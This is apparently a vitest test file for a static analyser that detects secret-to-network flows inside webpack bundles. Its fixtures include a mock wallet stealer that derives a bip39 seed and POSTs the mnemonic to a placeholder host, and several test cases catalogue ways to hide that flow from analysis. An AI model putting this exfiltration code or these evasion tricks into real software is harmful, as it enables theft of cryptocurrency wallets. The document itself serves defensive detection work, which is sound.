import { describe, expect, it } from 'vitest';
import { analyseSources, lowerSources } from './testing/analyseSources.ts';

/** A bundle as webpack writes it, with the given modules by name, further ones that nobody cares for, and an entry. */
function webpack(modules: Readonly<Record<string, string>>, how: Partial<Shape> = {}): string {
  const shape = { ...WEBPACK, ...how };
  const further = Array.from({ length: 9 }, (_, at) => [`./other${at}.js`, `exports.n${at} = ${at};`] as const);
  const table = [...further, ...Object.entries(modules)].map(([name, body]) => shape.entry(name, body)).join(',\n');
  const body = `${shape.cache}
  ${shape.require}
  ${shape.before}
  module.exports = load(${JSON.stringify(Object.keys(modules).at(-1))});`;
  return `(() => { ${shape.around(`{${table}}`, body)} })()`;
}
interface Shape {
  readonly entry: (name: string, body: string) => string;
  readonly around: (table: string, body: string) => string;
  readonly cache: string;
  readonly require: string;
  readonly before: string;
}
const WEBPACK: Shape = {
  entry: (name, body) => `${JSON.stringify(name)}(module, exports, load) { ${body} }`,
  around: (table, body) => `var table = (${table}); ${body}`,
  cache: 'var cache = {};',
  require: `function load(id) {
    var cached = cache[id];
    if (cached !== undefined) return cached.exports;
    var module = cache[id] = { exports: {} };
    table[id].call(module.exports, module, module.exports, load);
    return module.exports;
  }`,
  before: 'load.d = (e, t) => { for (var n in t) Object.defineProperty(e, n, { enumerable: true, get: t[n] }) };',
};

/** Methods have names that are never guessed by: only who knows the module finds them. */
const THIEF = {
  './send.js': "exports.format = (x) => fetch('https://example.invalid', { method: 'POST', body: x });",
  './key.js': "const { mnemonicToSeed } = require('bip39'); exports.decode = (x) => mnemonicToSeed(x);",
  './main.js':
    "const s = load('./send.js'); const k = load('./key.js'); exports.main = (words) => { k.decode(words); s.format(words); };",
};

async function keysSent(text: string): Promise<number> {
  const { flows } = await analyseSources({ 'dist/a.js': text });
  return flows.filter((one) => one.source === 'key' && one.sink === 'network').length;
}

describe('a key that goes through the modules of a bundle is found', () => {
  it.each<[string, Readonly<Record<string, string>>, Partial<Shape>]>([
    ['as webpack writes it', THIEF, {}],
    [
      'with functions and arrows for methods',
      THIEF,
      {
        entry: (name, body) =>
          name.includes('s')
            ? `${JSON.stringify(name)}: (module, exports, load) => { ${body} }`
            : `${JSON.stringify(name)}: function (module, exports, load) { ${body} }`,
      },
    ],
    [
      'with a require function that is an arrow and has no cache',
      THIEF,
      {
        require:
          'const load = (id) => { const m = { exports: {} }; table[id](m, m.exports, load); return m.exports; };',
      },
    ],
    [
      'with the table as a parameter, as older webpack does',
      THIEF,
      { around: (table, body) => `(function (table) { ${body} })(${table});` },
    ],
    [
      'out of `module.exports`',
      { ...THIEF, './send.js': THIEF['./send.js'].replace('exports.format', 'module.exports.format') },
      {},
    ],
    [
      'out of `module.exports` that is replaced',
      {
        ...THIEF,
        './send.js': THIEF['./send.js'].replace('exports.format =', 'module.exports = { format:').replace(/;$/u, '};'),
      },
      {},
    ],
    ['out of `this`', { ...THIEF, './send.js': THIEF['./send.js'].replace('exports.format', 'this.format') }, {}],
    [
      'through getters',
      {
        ...THIEF,
        './send.js':
          "load.d(exports, { format: () => f }); function f(x) { fetch('https://example.invalid', { method: 'POST', body: x }); }",
      },
      {},
    ],
    [
      'through a module that hands on another',
      {
        ...THIEF,
        './between.js': "module.exports = load('./send.js');",
        './main.js': THIEF['./main.js'].replace('./send.js', './between.js'),
      },
      {},
    ],
    [
      'kept in one module by another',
      {
        './keep.js': '',
        './take.js':
          "exports.encode = () => fetch('https://example.invalid', { method: 'POST', body: load('./keep.js').kept });",
        './key.js': THIEF['./key.js'],
        './main.js':
          "exports.main = (words) => { load('./key.js').decode(words); load('./keep.js').kept = words; load('./take.js').encode(); };",
      },
      {},
    ],
  ])('%s', async (_, modules, how) => {
    expect(await keysSent(webpack(modules, how))).toBe(1);
  });
});

describe('odd bundles hide nothing', () => {
  it.each<[string, Readonly<Record<string, string>>, Partial<Shape>]>([
    [
      'a name that is computed',
      { ...THIEF, './main.js': THIEF['./main.js'].replace("load('./send.js')", "load(atob('Li9z') + name)") },
      {},
    ],
    [
      'a name kept in a variable',
      {
        ...THIEF,
        './main.js': `const name = './send.js'; ${THIEF['./main.js'].replace("load('./send.js')", 'load(name)')}`,
      },
      {},
    ],
    [
      'the function called by another way',
      { ...THIEF, './main.js': THIEF['./main.js'].replace("load('./send.js')", "load.call(null, './send.js')") },
      {},
    ],
    [
      'the function bound',
      { ...THIEF, './main.js': THIEF['./main.js'].replace("load('./send.js')", "load.bind(null, './send.js')()") },
      {},
    ],
    [
      'the function under another name',
      { ...THIEF, './main.js': THIEF['./main.js'].replace("load('./send.js')", "({ a: load }).a('./send.js')") },
      {},
    ],
    [
      'an entry that is replaced later',
      { ...THIEF, './send.js': '', './evil.js': THIEF['./send.js'], './main.js': THIEF['./main.js'] },
      { before: "table['./send.js'] = table['./evil.js'];" },
    ],
    [
      'an entry that is replaced by who got the table from the function',
      {
        ...THIEF,
        './send.js': '',
        './main.js': `load.m['./send.js'] = (m, e) => { ${THIEF['./send.js'].replace('exports', 'e')} }; ${THIEF['./main.js']}`,
      },
      { before: 'load.m = table;' },
    ],
    [
      'an entry under a name that nobody can read',
      {
        ...THIEF,
        './send.js': '',
        './main.js': `load.m[name()] = (m, e) => { ${THIEF['./send.js'].replace('exports', 'e')} }; ${THIEF['./main.js']}`,
      },
      { before: 'load.m = table;' },
    ],
    [
      'an entry that is called without the function',
      { ...THIEF, './main.js': THIEF['./main.js'].replace("load('./send.js')", "{}; load.m['./send.js'](0, s, load)") },
      { before: 'load.m = table;' },
    ],
    [
      'a module that is put into the cache',
      { ...THIEF, './send.js': '' },
      {
        before: `cache['./send.js'] = { exports: {} }; ((exports) => { ${THIEF['./send.js']} })(cache['./send.js'].exports);`,
      },
    ],
    [
      'the cache under another name',
      { ...THIEF, './send.js': '' },
      {
        cache: 'var spare; var cache = spare = {};',
        before: `spare['./send.js'] = { exports: { format: (x) => fetch('https://example.invalid', { method: 'POST', body: x }) } };`,
      },
    ],
    [
      'a table of two literals',
      { ...THIEF, './send.js': '' },
      {
        around: (table, body) =>
          `var table = ${table}; if (process.argv.length > 9) table = { './send.js'(module, exports) { ${THIEF['./send.js']} } }; ${body}`,
      },
    ],
    [
      'a literal that is filled out of another',
      { ...THIEF, './send.js': '' },
      {
        around: (table, body) =>
          `var table = ${table.slice(0, -1)}, ...{ './send.js'(module, exports) { ${THIEF['./send.js']} } } }; ${body}`,
      },
    ],
    [
      'a function that loads another than it is asked for',
      { ...THIEF, './main.js': THIEF['./main.js'].replace('./send.js', './other1.js') },
      { require: WEBPACK.require.replace('var cached', "if (id === './other1.js') id = './send.js'; var cached") },
    ],
    [
      'a function that looks up something else inside another',
      { ...THIEF, './send.js': '' },
      {
        require: WEBPACK.require.replace('return module.exports', 'return (() => more[id])() || module.exports'),
        before: `var more = { './send.js': { format: (x) => fetch('https://example.invalid', { method: 'POST', body: x }) } }; load('./absent.js');`,
      },
    ],
    [
      'a function that sends what it is called with',
      {
        './main.js': "exports.main = (words) => { require('bip39').mnemonicToSeed(words); load(words); };",
        './z.js': "exports.main = load('./main.js').main",
      },
      {
        require: WEBPACK.require.replace(
          'var cached',
          "fetch('https://example.invalid', { method: 'POST', body: id }); var cached",
        ),
      },
    ],
  ])('%s', async (_, modules, how) => {
    expect(await keysSent(webpack(modules, how))).toBeGreaterThan(0);
  });
});

it('modules that do not load each other do not meet', async () => {
  const apart = {
    './send.js': THIEF['./send.js'],
    './key.js': THIEF['./key.js'],
    './a.js':
      "const k = load('./key.js'); exports.kept = {}; exports.main = (words) => { k.decode(words); exports.kept.words = words; };",
    './b.js': "const s = load('./send.js'); exports.kept = {}; exports.ping = () => { s.format(exports.kept.words); };",
    './main.js': "exports.a = load('./a.js').main; exports.b = load('./b.js').ping;",
  };
  expect(await keysSent(webpack(apart))).toBe(0);
  const { uses } = await analyseSources({ 'dist/a.js': webpack(apart) });
  expect(uses.map(({ capability }) => capability).toSorted()).toEqual(['key', 'network']);
});

it('says that a file was read in part where it has more such tables than are told apart', async () => {
  const tables = Array.from(
    { length: 2000 },
    (_, at) => `const t${at} = { a(m) { m.x = 1; }, b(m) {} };
    function r${at}(id) { const m = { x: 0 }; t${at}[id](m); return m.x; }`,
  );
  const many = await unreadOf(tables.join('\n'));
  expect(many).toEqual([expect.stringMatching(/^line \d+: there are too many bundled modules to tell them apart$/)]);
  expect(await unreadOf(tables.slice(0, 20).join('\n'))).toEqual([]);
});
async function unreadOf(text: string): Promise<readonly string[]> {
  const modules = await lowerSources({ 'a.js': text });
  return modules.flatMap(({ unread }) => unread.map(({ why }) => why));
}
